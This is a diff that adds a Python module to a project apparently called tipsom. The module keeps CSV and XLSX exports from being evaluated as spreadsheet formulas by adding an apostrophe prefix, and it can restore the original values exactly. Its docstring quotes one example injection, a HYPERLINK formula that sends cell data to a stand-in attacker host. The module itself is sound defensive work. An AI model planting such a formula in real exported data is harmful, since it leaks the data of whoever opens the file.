@@ -1,0 +1,81 @@
+"""Cell values that a spreadsheet cannot run: what every CSV and XLSX that tipsom writes goes through.
+
+Free text in a case (a note, a place, a name) is typed by people tipsom does
+not control. A spreadsheet that opens a CSV field starting with ``=``, ``+``,
+``-`` or ``@`` (or a tab or carriage return, which some strip first) treats it
+as a formula, so ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` planted
+by anyone who can enter a case would run on the machine of whoever exports
+all cases.
+
+The rule, chosen so that tipsom's own files round-trip exactly:
+
+- A value made only of digits, blanks and ``+ - ( ) . /`` (a number, a
+  negative number, a phone number such as ``+44 20 7946 0958``) is written as
+  it is: without letters, quotes or ``!`` it can name no function and no
+  other cell, so at worst a spreadsheet does arithmetic on it.
+- Any other value that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage
+  return gets one leading apostrophe, the mark spreadsheets themselves use
+  for "text, not a formula". So does a value that starts with an apostrophe
+  followed by one of those characters or by another apostrophe, so that the
+  next rule can tell the two apart.
+- Reading tipsom's own CSV layouts (native cases, HTCDS, rejects files)
+  removes one leading apostrophe from a value that starts with an apostrophe
+  followed by one of those characters or another apostrophe; every other
+  value is read as it is. ``restore(neutral(v)) == v`` for every text ``v``.
+
+XLSX cells are written as strings (never formulas), so they need no apostrophe.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+#: First characters that make a spreadsheet read a cell as a formula.
+FORMULA_STARTS = frozenset("=+-@\t\r")
+#: The spreadsheet's own "this is text" mark.
+TEXT_MARK = "'"
+_MARKED_SECOND = FORMULA_STARTS | {TEXT_MARK}
+#: Numbers and phone numbers: nothing a formula could call or reference.
+_INERT = re.compile(r"[0-9 +\-().\/]*[0-9][0-9 +\-().\/]*")
+
+
+def neutral(value: str) -> str:
+    """``value`` as a CSV cell that no spreadsheet evaluates (see the module docstring)."""
+    if not value:
+        return value
+    first = value[0]
+    if first in FORMULA_STARTS:
+        return value if _INERT.fullmatch(value) else TEXT_MARK + value
+    if first == TEXT_MARK and len(value) > 1 and value[1] in _MARKED_SECOND:
+        return TEXT_MARK + value
+    return value
+
+
+def restore(value: str) -> str:
+    """The value :func:`neutral` was given, from the cell it made."""
+    if len(value) > 1 and value[0] == TEXT_MARK and value[1] in _MARKED_SECOND:
+        return value[1:]
+    return value
+
+
+def restore_all(values: list[str]) -> list[str]:
+    """:func:`restore` over one row's values (cheaply: most rows hold no marked value)."""
+    if not any(v[:1] == TEXT_MARK for v in values):
+        return values
+    return [restore(v) for v in values]
+
+
+def text_cell(sheet: Any, value: Any) -> Any:
+    """An openpyxl write-only cell holding ``value`` as text, never as a formula.
+
+    openpyxl stores a string starting with ``=`` as a formula; forcing the
+    type to string keeps it the text that was entered. Other values (numbers,
+    dates) keep their type.
+    """
+    from openpyxl.cell import WriteOnlyCell
+
+    cell = WriteOnlyCell(sheet, value=value)
+    if isinstance(value, str):
+        cell.data_type = "s"
+    return cell
